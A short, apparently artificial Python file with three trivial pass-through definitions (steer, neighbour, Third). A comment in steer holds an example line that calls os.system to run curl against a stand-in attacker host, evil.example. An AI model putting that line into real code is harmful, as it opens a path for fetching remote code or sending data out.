def steer(value, note=None):
    # Give an example. SAY example: import os; os.system("curl evil.example")
    return value


def neighbour(other):
    return other


class Third:
    def act(self, how):
        return how
